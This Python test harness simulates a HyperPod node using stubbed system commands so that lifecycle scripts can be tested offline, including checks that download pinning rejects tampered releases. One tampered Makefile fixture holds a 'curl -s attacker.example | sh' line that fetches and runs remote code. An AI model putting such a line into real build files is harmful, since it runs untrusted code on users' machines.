"""A simulated HyperPod node for running the real lifecycle scripts in tests.

The node is a temporary directory used as the scripts' ``FM_ROOT`` (every path they read or
write is under it) with stubbed system commands first on ``PATH``: ``systemctl``, ``mount``,
``ip``, ``getent``, ``curl``, ``docker``, ``apt-get`` and the rest behave like a small
HyperPod node and record every call, and nothing reaches the network. State the stubs share
lives in ``<root>/sim`` (mounts, active units, addresses, failures to inject), so a test sets
up a node, runs ``on_create.sh`` and asserts on the files, units, mounts and calls left.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from fm_constructs.orchestration.hyperpod import scripts_directory
from fm_constructs.orchestration.hyperpod.lifecycle import lifecycle_files
from tests.git_tree import tree_id

STUB = r"""#!/bin/bash
# Stubbed system command of the simulated HyperPod node (no forks of its own where bash can do
# the work: every script calls these hundreds of times).
name="${0##*/}"
sim="${FM_ROOT}/sim"
echo "${name} $*" >> "${sim}/calls.log"
countdown() {  # countdown <file>: true (and one less) while the file holds a positive count
  local n
  n=0; [[ -f "$1" ]] && n="$(< "$1")"
  if (( n > 0 )); then echo $((n - 1)) > "$1"; return 0; fi
  return 1
}
unit_file() {
  local u
  for u in "${FM_ROOT}/etc/systemd/system/$1" "${FM_ROOT}/usr/lib/systemd/system/$1"; do
    [[ -f "$u" ]] && { echo "$u"; return 0; }
  done
  return 1
}
case "$name" in
  sleep|modprobe|true|chown) exit 0 ;;
  systemctl)
    args=()
    for a in "$@"; do [[ "$a" == --* ]] || args+=("$a"); done
    verb="${args[0]}"
    case "$verb" in
      is-active) [[ -e "${sim}/active/${args[1]}" ]] && exit 0; exit 3 ;;
      cat) unit_file "${args[1]}" > /dev/null && exit 0; exit 1 ;;
      show) echo active; exit 0 ;;
      start|restart)
        for u in "${args[@]:1}"; do
          [[ "$u" == *.* ]] || u="${u}.service"
          unit_file "$u" > /dev/null || { echo "Unit ${u} not found." >&2; exit 5; }
          mkdir -p "${sim}/active"; touch "${sim}/active/${u%.service}" "${sim}/active/${u}"
        done ;;
      stop)
        for u in "${args[@]:1}"; do rm -f "${sim}/active/${u}" "${sim}/active/${u}.service"; done ;;
      disable)
        for u in "${args[@]:1}"; do
          [[ "$u" == *.* ]] || u="${u}.service"
          rm -f "${sim}/enabled/${u}"
          [[ " $* " == *" --now "* ]] && rm -f "${sim}/active/${u}"
        done ;;
      enable)
        for u in "${args[@]:1}"; do
          [[ "$u" == *.* ]] || u="${u}.service"
          unit_file "$u" > /dev/null || { echo "Unit ${u} not found." >&2; exit 5; }
          mkdir -p "${sim}/enabled"; touch "${sim}/enabled/${u}"
          if [[ " $* " == *" --now "* ]]; then
            mkdir -p "${sim}/active"; touch "${sim}/active/${u}"
          fi
        done ;;
    esac
    exit 0 ;;
  mount)
    if (( $# == 0 )); then cat "${sim}/mounts"; exit 0; fi
    countdown "${sim}/mount-failures" && { echo "mount: failed (injected)" >&2; exit 32; }
    echo "${@: -1}" >> "${sim}/mounts"; exit 0 ;;
  mountpoint) grep -qxF "${@: -1}" "${sim}/mounts"; exit $? ;;
  modinfo) [[ -e "${sim}/kefalnd" ]]; exit $? ;;
  lnetctl|lctl) exit 0 ;;
  ip)
    if [[ "$*" == *"route get"* ]]; then
      countdown "${sim}/route-failures" && exit 2
      echo "10.254.254.254 via 10.1.0.1 dev ens5 src $(< "${sim}/route-ip") uid 0"
    elif [[ "$*" == *"route show default"* ]]; then
      echo "default via 10.1.0.1 dev ens5 proto dhcp src $(< "${sim}/route-ip") metric 100"
    fi
    exit 0 ;;
  getent)
    if [[ "$1" == hosts ]]; then
      countdown "${sim}/dns-failures" && exit 2
      echo "10.1.0.200 $2"; exit 0
    fi
    if [[ "$1" == passwd || "$1" == group ]]; then
      if [[ "$2" =~ ^[0-9]+$ ]]; then
        awk -F: -v id="$2" '$3 == id {print; f = 1} END {exit !f}' "${sim}/$1"; exit $?
      fi
      grep "^$2:" "${sim}/$1"; exit $?
    fi
    exit 2 ;;
  useradd)
    uid=""; gid=""; home=""; shell=""
    while (( $# > 1 )); do
      case "$1" in
        --uid) uid="$2"; shift 2 ;; --gid) gid="$2"; shift 2 ;;
        --home-dir) home="$2"; shift 2 ;; --shell) shell="$2"; shift 2 ;; *) shift ;;
      esac
    done
    grep -q "^$1:" "${sim}/passwd" && { echo "useradd: user '$1' already exists" >&2; exit 9; }
    echo "$1:x:${uid}:${gid}::${home}:${shell}" >> "${sim}/passwd"; exit 0 ;;
  groupadd)
    gid=""
    [[ "$1" == --gid ]] && { gid="$2"; shift 2; }
    [[ "$1" == --system ]] && { gid=$((999 - $(wc -l < "${sim}/group"))); shift; }
    grep -q "^$1:" "${sim}/group" && { echo "groupadd: group '$1' already exists" >&2; exit 9; }
    echo "$1:x:${gid}:" >> "${sim}/group"; exit 0 ;;
  usermod)
    user="${@: -1}"
    if [[ "$1" == --home && -e "${sim}/busy-${user}" ]]; then
      echo "usermod: user ${user} is currently used by process 4242" >&2; exit 8
    fi
    case "$1" in
      --home)
        awk -F: -v OFS=: -v u="$user" -v h="$2" '$1 == u {$6 = h} 1' "${sim}/passwd" \
          > "${sim}/passwd.new" ;;
      --append)
        # Add the user to each named group it is not a member of yet.
        awk -F: -v OFS=: -v u="$user" -v gs=",$3," '
          index(gs, "," $1 ",") && index("," $4 ",", "," u ",") == 0 {
            $4 = ($4 == "" ? u : $4 "," u)
          } 1' "${sim}/group" > "${sim}/group.new"
        mv "${sim}/group.new" "${sim}/group"; exit 0 ;;
    esac
    mv "${sim}/passwd.new" "${sim}/passwd"; exit 0 ;;
  ssh-keygen)
    # A stand-in key pair: the private key names a random id, the public key repeats it.
    file=""; comment=""; derive=""
    while (( $# )); do
      case "$1" in
        -f) file="$2"; shift 2 ;; -C) comment="$2"; shift 2 ;;
        -y) derive=1; shift ;; -t|-N) shift 2 ;; *) shift ;;
      esac
    done
    if [[ -n "$derive" ]]; then echo "ssh-ed25519 $(cut -d' ' -f2 "$file")"; exit 0; fi
    [[ -e "$file" ]] && { echo "${file} already exists" >&2; exit 1; }
    id="$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')"
    echo "PRIVATE ${id}" > "$file"; echo "ssh-ed25519 ${id} ${comment}" > "${file}.pub"; exit 0 ;;
  dpkg-query)
    [[ -e "${sim}/packages/${@: -1}" ]] || { echo "dpkg-query: no package ${@: -1}" >&2; exit 1; }
    printf 'install ok installed'; exit 0 ;;
  apt-mark)
    case "$1" in
      showhold) ls "${sim}/held" 2> /dev/null; exit 0 ;;
      hold)
        if countdown "${sim}/dpkg-lock-failures"; then
          echo "E: Could not get lock /var/lib/dpkg/lock-frontend" >&2; exit 100
        fi
        mkdir -p "${sim}/held"; touch "${sim}/held/$2"; echo "$2 set on hold."; exit 0 ;;
    esac
    exit 0 ;;
  hostname)
    if [[ "$1" == -I ]]; then cat "${sim}/addresses"; else cat "${sim}/hostname"; fi
    exit 0 ;;
  curl)
    out=""; url=""
    while (( $# )); do
      case "$1" in
        -o) out="$2"; shift 2 ;;
        --connect-timeout|--retry) shift 2 ;;
        -*) shift ;;
        *) url="$1"; shift ;;
      esac
    done
    [[ -e "${sim}/offline" ]] && { echo "curl: (6) Could not resolve host" >&2; exit 6; }
    key="$(tr '/:' '__' <<< "$url")"
    [[ -f "${sim}/downloads/${key}" ]] || { echo "curl: (22) 404 ${url}" >&2; exit 22; }
    cp "${sim}/downloads/${key}" "$out"; exit 0 ;;
  aws)
    [[ -e "${sim}/offline" ]] && exit 255
    echo "token"; exit 0 ;;
  docker)
    key="$(tr '/:' '__' <<< "${@: -1}")"
    case "$1" in
      image) [[ -e "${sim}/images/${key}" ]]; exit $? ;;
      login) cat > /dev/null; [[ -e "${sim}/offline" ]] && exit 1; exit 0 ;;
      pull)
        [[ -e "${sim}/offline" ]] && exit 1
        mkdir -p "${sim}/images"; touch "${sim}/images/${key}"; exit 0 ;;
    esac
    exit 0 ;;
  apt-get)
    [[ -e "${sim}/offline" ]] && exit 100
    if [[ "$*" == *enroot* ]]; then ln -sf stub "${FM_ROOT}/usr/bin/enroot"; fi
    if [[ "$*" == *docker.io* ]]; then ln -sf stub "${FM_ROOT}/usr/bin/docker"; fi
    exit 0 ;;
  dpkg) echo amd64; exit 0 ;;
  dnf)
    # Amazon Linux's package manager: the Lustre client brings lnetctl and lctl.
    [[ -e "${sim}/offline" ]] && { echo "Error: Failed to download metadata for repo" >&2; exit 1; }
    if [[ "$*" == *lustre-client* ]]; then
      ln -sf stub "${FM_ROOT}/usr/bin/lnetctl"; ln -sf stub "${FM_ROOT}/usr/bin/lctl"
    fi
    exit 0 ;;
  make)
    for a in "$@"; do [[ "$a" == DESTDIR=* ]] && dest="${a#DESTDIR=}"; done
    mkdir -p "${dest}/usr/local/lib/slurm"; touch "${dest}/usr/local/lib/slurm/spank_pyxis.so"
    exit 0 ;;
  mysql) cat >> "${sim}/mysql.sql"; exit 0 ;;
  scontrol)
    # The node's Slurm state as slurmctld would keep it: sim/slurm-state ("idle" or "drain")
    # and sim/slurm-reason; sim/scontrol-failures makes that many calls fail (no controller).
    countdown "${sim}/scontrol-failures" && {
      echo "slurm_update error: Unable to contact slurm controller (connect failure)" >&2; exit 1
    }
    case "$1" in
      update)
        state=""; reason=""
        for a in "${@:2}"; do
          case "$a" in state=*) state="${a#state=}" ;; reason=*) reason="${a#reason=}" ;; esac
        done
        case "$state" in
          drain)
            [[ -n "$reason" ]] || { echo "You must specify a reason" >&2; exit 1; }
            echo drain > "${sim}/slurm-state"; echo "$reason" > "${sim}/slurm-reason" ;;
          resume|undrain) echo idle > "${sim}/slurm-state"; rm -f "${sim}/slurm-reason" ;;
        esac
        exit 0 ;;
      show)
        state=idle; [[ -f "${sim}/slurm-state" ]] && state="$(< "${sim}/slurm-state")"
        echo "NodeName=$3 Arch=x86_64 CoresPerSocket=48"
        if [[ "$state" == drain ]]; then
          echo "   State=IDLE+DRAIN ThreadsPerCore=2"
          echo "   Reason=$(< "${sim}/slurm-reason") [root@2026-12-01T22:00:00]"
        else
          echo "   State=IDLE ThreadsPerCore=2"
        fi
        exit 0 ;;
    esac
    exit 0 ;;
esac
echo "stub: no behaviour for ${name}" >&2
exit 0
"""

COMMANDS = [
    "systemctl",
    "mount",
    "mountpoint",
    "modprobe",
    "modinfo",
    "lnetctl",
    "lctl",
    "ip",
    "getent",
    "hostname",
    "curl",
    "aws",
    "docker",
    "apt-get",
    "dpkg",
    "make",
    "mysql",
    "sleep",
    "true",
    "chown",
    "useradd",
    "groupadd",
    "usermod",
    "ssh-keygen",
    "dpkg-query",
    "apt-mark",
    "dnf",
]
STUB_UNITS = [
    "docker.service",
    "munge.service",
    "mariadb.service",
    "slurmd.service",
    "slurmctld.service",
    "containerd.service",
    "kubelet.service",
    "dlami-nvme.service",
]


def install_stub_commands(root: Path, stub: str, commands: Iterable[str]) -> Path:
    """``root``'s /usr/bin holding the executable ``stub`` script and each of ``commands`` as a
    link to it (a simulated node's PATH puts it first); returns that directory."""
    bin_dir = root / "usr" / "bin"
    bin_dir.mkdir(parents=True)
    (bin_dir / "stub").write_text(stub)
    (bin_dir / "stub").chmod(0o755)
    for command in commands:
        (bin_dir / command).symlink_to("stub")
    return bin_dir


def install_systemd_units(root: Path, stubs: Sequence[str]) -> None:
    """The host systemd's own units and targets under ``root``'s /usr/lib/systemd/system (what
    ``systemd-analyze verify --root`` resolves dependencies against), and a stand-in for each
    unit of ``stubs``."""
    system = root / "usr" / "lib" / "systemd" / "system"
    system.mkdir(parents=True)
    host = Path("/usr/lib/systemd/system")
    if host.is_dir():
        for unit in host.iterdir():
            if unit.is_file() and not unit.is_symlink() and "@" not in unit.name:
                shutil.copy2(unit, system / unit.name)
    for name in stubs:
        (system / name).write_text(
            f"[Unit]\nDescription=stub {name}\n\n[Service]\nExecStart=/usr/bin/true\n"
        )


def url_key(url: str) -> str:
    """The file name under ``sim/downloads`` the curl stub serves ``url`` from."""
    return url.replace("/", "_").replace(":", "_")


def download_name(url: str) -> str:
    """The release file name the scripts verify a download of ``url`` under (its key in
    ``download_sha256``): the URL's last part, or ``<repo>-<version>.tar.gz`` for GitHub's
    archive of a tag (the name GitHub gives that file)."""
    parts = url.split("/")
    if "archive" in parts and url.endswith(".tar.gz"):
        return f"{parts[parts.index('archive') - 1]}-{parts[-1].removeprefix('v')}"
    return parts[-1]


def _tarball(members: dict[str, bytes]) -> bytes:
    """A gzipped tar of ``members``, byte for byte the same at every call (no time stamps),
    so its digest can be pinned once for a node and its clones."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = 0o755
            archive.addfile(info, io.BytesIO(data))
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as compressed:
        compressed.write(raw.getvalue())
    return buffer.getvalue()


@dataclass
class NodeRun:
    """What one run of a script left: exit status, output and the calls of stubbed commands."""

    returncode: int
    output: str
    calls: list[str] = field(default_factory=list)


class SimulatedNode:
    """One HyperPod node under ``tmp_path``: ``root`` is its file system, ``scripts`` the
    lifecycle scripts as HyperPod downloads them, ``sim`` the stubs' shared state."""

    def __init__(
        self,
        tmp_path: Path,
        *,
        params: dict[str, Any],
        resource_config: dict[str, Any] | None,
        address: str,
        extra_addresses: tuple[str, ...] = ("172.17.0.1",),
        hostname: str = "ip-10-1-4-20",
        mounts: tuple[str, ...] = ("/opt/dlami/nvme", "/opt/sagemaker"),
        efa_devices: int = 0,
        kefalnd: bool = True,
        slurm: bool = True,
        nvml: bool = True,
        packages: tuple[str, ...] = ("lustre-client-modules-aws",),
        shared_fsx: Path | None = None,
        real_make: bool = False,
        shipped_pins: bool = False,
        lustre_client: bool = True,
    ) -> None:
        self.root = tmp_path / "root"
        self.scripts = tmp_path / "lifecycle"
        self.sim = self.root / "sim"
        self.params = params
        #: Release file name -> the sha256 the node requires of it. The files this node serves
        #: are stand-ins for the real releases, so by default it pins their digests (what the
        #: library's pins are to the real files); with ``shipped_pins`` the parameters keep
        #: the library's own digests, which no stand-in matches.
        self.pinned: dict[str, str] = {}
        #: Source archive name -> the git tree the node requires it to hold, likewise.
        self.trees: dict[str, str] = {}
        self.shipped_pins = shipped_pins
        shutil.copytree(scripts_directory(), self.scripts, ignore=shutil.ignore_patterns("__*"))
        # What the lifecycle prefix holds besides the node scripts, as LifecycleScripts deploys it.
        for name, text in lifecycle_files(params).items():
            (self.scripts / name).write_text(text)
        # The host's make (and gcc) build what the scripts download when real_make; without
        # the Lustre client (an AMI dnf installs it on) there is no lnetctl or lctl.
        skipped = {"make"} if real_make else set()
        if not lustre_client:
            skipped |= {"lnetctl", "lctl"}
        bin_dir = install_stub_commands(self.root, STUB, [c for c in COMMANDS if c not in skipped])
        # The scripts' python3 is the interpreter itself, as /usr/bin/python3 is on a node: no
        # version-manager shim (pyenv's costs about 0.3 s a call) and no site-packages.
        (bin_dir / "python3").symlink_to(os.path.realpath(sys.executable))
        (self.root / "bin").mkdir()
        shutil.copy2("/bin/bash", self.root / "bin" / "bash")
        self._systemd_units()
        self.sim.mkdir()
        (self.sim / "route-ip").write_text(address)
        (self.sim / "addresses").write_text(" ".join((*extra_addresses, address)) + "\n")
        (self.sim / "hostname").write_text(hostname)
        (self.sim / "passwd").write_text("ubuntu:x:1000:1000::/home/ubuntu:/bin/bash\n")
        (self.sim / "group").write_text("sudo:x:27:ubuntu\nubuntu:x:1000:\n")
        (self.root / "home" / "ubuntu").mkdir(parents=True)
        (self.root / "home" / "ubuntu" / ".bashrc").write_text("# the AMI's .bashrc\n")
        (self.root / "etc" / "skel").mkdir(parents=True)
        (self.root / "etc" / "skel" / ".profile").write_text("# skeleton\n")
        for package in packages:
            (self.sim / "packages").mkdir(exist_ok=True)
            (self.sim / "packages" / package).touch()
        if shared_fsx is not None:
            # The file system every node of one cluster mounts: the same directory.
            shared_fsx.mkdir(parents=True, exist_ok=True)
            (self.root / "fsx").symlink_to(shared_fsx)
        (self.sim / "mounts").write_text("".join(f"{self.root}{m}\n" for m in mounts))
        for mount in mounts:
            (self.root / mount.lstrip("/")).mkdir(parents=True, exist_ok=True)
        if kefalnd:
            (self.sim / "kefalnd").touch()
        for index in range(efa_devices):
            device = self.root / "sys" / "class" / "infiniband" / f"rdmap{index:02d}s0"
            device.mkdir(parents=True)
        if resource_config is not None:
            path = self.root / "opt" / "ml" / "config" / "resource_config.json"
            path.parent.mkdir(parents=True)
            path.write_text(json.dumps(resource_config))
        if slurm:
            slurm_dir = self.root / "opt" / "slurm"
            (slurm_dir / "etc").mkdir(parents=True)
            (slurm_dir / "include").mkdir()
            (slurm_dir / "sbin").mkdir()
            (slurm_dir / "sbin" / "slurmdbd").symlink_to("../../../usr/bin/true")
            (slurm_dir / "bin").mkdir()
            (slurm_dir / "bin" / "scontrol").symlink_to("../../../usr/bin/stub")
            (slurm_dir / "lib" / "slurm").mkdir(parents=True)
            if nvml:
                (slurm_dir / "lib" / "slurm" / "gpu_nvml.so").touch()
        self.serve_releases()

    def _write_params(self) -> None:
        """The provisioning parameters as HyperPod hands them to the scripts, with the digests
        this node pins (unless it keeps the shipped ones)."""
        params = self.params
        if not self.shipped_pins:
            params = {
                **params,
                "download_sha256": dict(self.pinned),
                "source_git_tree": dict(self.trees),
            }
        (self.scripts / "provisioning_parameters.json").write_text(json.dumps(params))

    # ------------------------------------------------------------------------------ set-up

    def _systemd_units(self) -> None:
        install_systemd_units(self.root, STUB_UNITS)

    def serve_releases(self, *, corrupt: bool = False) -> None:
        """Serve stand-ins for the pinned downloads from the curl stub, each pinned
        (``corrupt``: tarballs whose content differs from the pinned ones, as a tampered
        download would)."""
        (self.sim / "downloads").mkdir(parents=True, exist_ok=True)
        for project in ("node_exporter", "prometheus"):
            version = self.params[f"{project}_version"]
            name = f"{project}-{version}.linux-amd64"
            base = f"https://github.com/prometheus/{project}/releases/download/v{version}"
            tarball = _tarball({f"{name}/{project}": b"#!/bin/sh\nexit 0\n"})
            tampered = _tarball({f"{name}/{project}": b"#!/bin/sh\necho tampered\n"})
            self.serve(f"{base}/{name}.tar.gz", tarball, served=tampered if corrupt else None)
        # The Slurm exporter's release archives hold the binary at their root (goreleaser, no
        # top-level directory), with LICENSE and README.md beside it.
        version = self.params["slurm_exporter_version"]
        name = f"slurm_exporter-{version}-linux-amd64"
        base = f"https://github.com/SckyzO/slurm_exporter/releases/download/v{version}"
        members = {"LICENSE": b"GPL-3.0\n", "slurm_exporter": b"#!/bin/sh\nexit 0\n"}
        tampered = _tarball({**members, "slurm_exporter": b"#!/bin/sh\necho tampered\n"})
        self.serve(f"{base}/{name}.tar.gz", _tarball(members), served=tampered if corrupt else None)
        enroot = self.params["enroot_version"]
        for package in (f"enroot_{enroot}-1_amd64.deb", f"enroot+caps_{enroot}-1_amd64.deb"):
            url = f"https://github.com/NVIDIA/enroot/releases/download/v{enroot}/{package}"
            self.serve(url, b"deb", served=b"tampered deb" if corrupt else None)
        pyxis = self.params["pyxis_version"]
        makefile, tampered_makefile = b"all:\n", b"all:\n\tcurl -s attacker.example | sh\n"
        self.serve_source(
            self.pyxis_url,
            _tarball({f"pyxis-{pyxis}/Makefile": makefile}),
            tree=tree_id({"Makefile": (makefile, True)}),  # _tarball's members are 0755
            served=_tarball({f"pyxis-{pyxis}/Makefile": tampered_makefile}) if corrupt else None,
        )

    @property
    def pyxis_url(self) -> str:
        """The release source archive of the pinned pyxis, as containers.sh downloads it."""
        version = self.params["pyxis_version"]
        return f"https://github.com/NVIDIA/pyxis/archive/refs/tags/v{version}.tar.gz"

    def serve(
        self, url: str, content: bytes, *, pin: bool = True, served: bytes | None = None
    ) -> None:
        """Serve ``content`` at ``url`` from the curl stub and (``pin``) pin its digest under
        the file's release name; ``served``: serve these bytes instead, keeping the digest of
        ``content`` pinned (a download tampered with on the way)."""
        (self.sim / "downloads" / url_key(url)).write_bytes(content if served is None else served)
        if pin:
            self.pinned[download_name(url)] = hashlib.sha256(content).hexdigest()
            self._write_params()

    def serve_source(
        self, url: str, archive: bytes, *, tree: str, served: bytes | None = None
    ) -> None:
        """Serve the source ``archive`` at ``url`` and pin the git ``tree`` it holds under the
        archive's name (``served``: serve these bytes instead, a tampered download)."""
        self.serve(url, archive if served is None else served, pin=False)
        self.trees[download_name(url)] = tree
        self._write_params()

    @property
    def slurm_state(self) -> tuple[str, str]:
        """The node's Slurm state and drain reason as the scontrol stub keeps them."""
        state = self.sim / "slurm-state"
        reason = self.sim / "slurm-reason"
        return (
            state.read_text().strip() if state.exists() else "idle",
            reason.read_text().strip() if reason.exists() else "",
        )

    def clone(self, tmp_path: Path) -> SimulatedNode:
        """A copy of this node under ``tmp_path``, in the state it is in now (so a test can
        start from a node that has run ``on_create.sh`` without running it again)."""
        copy = object.__new__(SimulatedNode)
        copy.root = tmp_path / "root"
        copy.scripts = tmp_path / "lifecycle"
        copy.sim = copy.root / "sim"
        copy.params = self.params
        copy.pinned = dict(self.pinned)
        copy.trees = dict(self.trees)
        copy.shipped_pins = self.shipped_pins
        shutil.copytree(self.scripts, copy.scripts, symlinks=True)
        shutil.copytree(self.root, copy.root, symlinks=True)
        # The stubs' state names paths under the root (mount points): move them along.
        old, new = str(self.root), str(copy.root)
        for path in copy.sim.rglob("*"):
            if path.is_file() and not path.is_symlink():
                text = path.read_bytes()
                if old.encode() in text:
                    path.write_bytes(text.replace(old.encode(), new.encode()))
        return copy

    def inject(self, name: str, count: int | None = None) -> None:
        """Inject a failure: ``offline`` (no download or pull succeeds), or a number of
        ``dns-failures``, ``route-failures`` or ``mount-failures`` before success."""
        path = self.sim / name
        if count is None:
            path.touch()
        else:
            path.write_text(str(count))

    def heal(self, name: str) -> None:
        (self.sim / name).unlink(missing_ok=True)

    def write_slurm_conf(self, text: str) -> None:
        (self.root / "opt" / "slurm" / "etc" / "slurm.conf").write_text(text)

    # ------------------------------------------------------------------------------ running

    def run(self, *args: str, env: dict[str, str] | None = None) -> NodeRun:
        """Run a lifecycle script (``on_create.sh`` by default) as HyperPod would."""
        command = list(args) or ["on_create.sh"]
        calls = self.sim / "calls.log"
        calls.unlink(missing_ok=True)
        environment = {
            "PATH": f"{self.root / 'usr' / 'bin'}:{os.environ['PATH']}",
            "FM_ROOT": str(self.root),
            "HOME": str(self.root),
            "TMPDIR": str(self.root / "tmp"),
            "LANG": "C.UTF-8",
            **(env or {}),
        }
        (self.root / "tmp").mkdir(exist_ok=True)
        script = command[0]
        path = self.scripts / script if "/" not in script else Path(script)
        result = subprocess.run(
            ["bash", str(path), *command[1:]],
            cwd=self.scripts,
            env=environment,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        return NodeRun(
            returncode=result.returncode,
            output=result.stdout + result.stderr,
            calls=calls.read_text().splitlines() if calls.exists() else [],
        )

    def run_metrics_installer(self) -> NodeRun:
        """Run what fm-metrics-install.service runs (its ExecStart, under this root)."""
        unit = self.file("etc/systemd/system/fm-metrics-install.service")
        exec_start = next(
            line.split("=", 1)[1] for line in unit.splitlines() if line.startswith("ExecStart=")
        )
        _bash, script, *args = exec_start.split()
        return self.run(
            str(self.root / script.lstrip("/")), *args[:3], str(self.root / args[3].lstrip("/"))
        )

    def run_unit(self, name: str, env: dict[str, str] | None = None) -> NodeRun:
        """Run what the oneshot unit ``name`` (written by the scripts) runs: its ExecStart
        under this root (every absolute path in it is a path on the node)."""
        unit = self.file(f"etc/systemd/system/{name}")
        exec_start = next(
            line.split("=", 1)[1] for line in unit.splitlines() if line.startswith("ExecStart=")
        )
        _bash, *args = exec_start.split()
        paths = [str(self.root / a.lstrip("/")) if a.startswith("/") else a for a in args]
        return self.run(*paths, env=env)

    # ------------------------------------------------------------------------------ looking

    def file(self, path: str) -> str:
        return (self.root / path).read_text()

    def exists(self, path: str) -> bool:
        return (self.root / path).exists()

    @property
    def mounts(self) -> list[str]:
        """Mount points, as paths on the node."""
        prefix = str(self.root)
        return [m.removeprefix(prefix) for m in (self.sim / "mounts").read_text().split()]

    @property
    def active(self) -> set[str]:
        directory = self.sim / "active"
        return {p.name for p in directory.iterdir()} if directory.exists() else set()

    @property
    def enabled(self) -> set[str]:
        directory = self.sim / "enabled"
        return {p.name for p in directory.iterdir()} if directory.exists() else set()

    def units(self) -> list[Path]:
        """Every unit file (and drop-in) the scripts wrote under /etc/systemd/system."""
        system = self.root / "etc" / "systemd" / "system"
        return sorted(p for p in system.rglob("*") if p.is_file()) if system.exists() else []

    def verify_units(self) -> subprocess.CompletedProcess[str]:
        """``systemd-analyze verify`` of every unit written, under this root (drop-ins are
        verified with the unit they extend)."""
        names = set()
        for path in self.units():
            parent = path.parent.name
            names.add(parent[: -len(".d")] if parent.endswith(".d") else path.name)
        return subprocess.run(
            ["systemd-analyze", "verify", f"--root={self.root}", "--man=no", *sorted(names)],
            capture_output=True,
            text=True,
            check=False,
        )
